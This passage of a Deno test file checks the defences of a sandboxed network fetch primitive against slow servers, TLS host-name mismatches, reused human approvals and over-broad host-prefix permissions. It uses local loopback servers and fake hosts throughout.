    assert.equal(response.body, "€".repeat((1024 * 1024 - 1) / 3));
  },
});

Deno.test({
  name:
    "NetPrimitive.fetch() times out on a server that never finishes (attack: slowloris response)",
  ...LOOPBACK,
  async fn() {
    const streams: ReadableStreamDefaultController<Uint8Array>[] = [];
    let release = () => {};
    const hold = new Promise<void>((resolve) => release = resolve);
    await using server = localServer((request) => {
      if (new URL(request.url).pathname === "/headers-only") {
        return hold.then(() => new Response("late"));
      }
      return new Response(
        new ReadableStream<Uint8Array>({
          start(controller) {
            controller.enqueue(new TextEncoder().encode("partial"));
            streams.push(controller);
          },
        }),
      );
    });
    try {
      await using f = await fixture();
      grant(f, `127.0.0.1:${server.port}`);
      for (const path of ["/body", "/headers-only"]) {
        const started = performance.now();
        const error = await refused(
          () =>
            netOf(f, hostNet()).fetch(f.pid, {
              url: `http://127.0.0.1:${server.port}${path}`,
              timeoutMs: 300,
            }),
          "timeout",
        );
        assert.ok(error instanceof NetError);
        assert.ok(performance.now() - started < 5000, `${path} was cut off at the cap`);
      }
    } finally {
      release();
      for (const controller of streams) {
        try {
          controller.close();
        } catch { /* the client is gone */ }
      }
    }
  },
});

const FIXTURES = new URL("../../tests/fixtures/net/", import.meta.url);

Deno.test({
  name:
    "hostNet() connects to the checked address while TLS verifies the URL's host name (attack: certificate mismatch)",
  ...LOOPBACK,
  async fn() {
    const tls = {
      cert: Deno.readTextFileSync(new URL("server.pem", FIXTURES)),
      key: Deno.readTextFileSync(new URL("server.key", FIXTURES)),
    };
    const ca = Deno.readTextFileSync(new URL("ca.pem", FIXTURES));
    await using server = localServer(() => new Response("over tls"), tls);
    const resolver = fakeNet({
      dns: { "test.example": ["127.0.0.1"], "wrong.example": ["127.0.0.1"] },
    });
    const provider = (caCerts?: string[]): NetProvider => ({
      resolve: (host) => resolver.resolve(host),
      request: hostNet(caCerts ? { caCerts } : {}).request,
    });
    await using f = await fixture();
    grant(f, `test.example:${server.port}`);
    grant(f, `wrong.example:${server.port}`);
    const ok = await netOf(f, provider([ca])).fetch(f.pid, {
      url: `https://test.example:${server.port}/secure`,
    });
    assert.equal(ok.body, "over tls");
    assert.deepEqual(server.seen, [{
      method: "GET",
      host: `test.example:${server.port}`,
      url: `https://test.example:${server.port}/secure`,
    }]);
    await refused(
      () => netOf(f, provider([ca])).fetch(f.pid, { url: `https://wrong.example:${server.port}/` }),
      "tls_failed",
    );
    await refused(
      () => netOf(f, provider()).fetch(f.pid, { url: `https://test.example:${server.port}/` }),
      "tls_failed",
    );
    assert.equal(server.seen.length, 1, "no request went over an unverified connection");
  },
});

Deno.test("NetPrimitive.fetch() in queue mode: a human's approval through the real channel runs the request once", async () => {
  await using f = await fixture({ mode: "workspace-write", human: "queue" });
  grant(f, "public.example");
  const net = fakeNet({ dns: DNS });
  const primitive = netOf(f, net, { human: f.runtime.human });
  // workspace-write asks for the network whatever is granted.
  await assert.rejects(
    () => primitive.fetch(f.pid, { url: "http://public.example/a" }),
    HumanPendingError,
  );
  assert.deepEqual(net.requests, []);
  const [request] = f.runtime.human.list({ pid: f.pid });
  f.runtime.human.approve(request!.id, { by: "operator" });
  const response = await primitive.fetch(f.pid, { url: "http://public.example/a" });
  assert.equal(response.status, 200);
  assert.equal(net.requests.length, 1);
  // One-shot, and bound to this request: the same URL asks again, another URL too.
  for (const url of ["http://public.example/a", "http://public.example/b"]) {
    await assert.rejects(() => primitive.fetch(f.pid, { url }), HumanPendingError);
  }
  assert.equal(net.requests.length, 1);
});

Deno.test("HumanChannel.requestPermission() refuses a net prefix before asking anyone (a host prefix matches other domains)", async () => {
  await using f = await fixture({ human: "queue" });
  const before = f.runtime.human.list({ pid: f.pid }).length;
  await assert.rejects(
    f.runtime.human.requestPermission(f.pid, {
      resource: { type: "net", key: "api.example.com", scope: "prefix" },
      rights: ["connect"],
      reason: "for the API",
    }),
    ValidationError,
  );
  assert.equal(f.runtime.human.list({ pid: f.pid }).length, before, "nothing was queued");
});
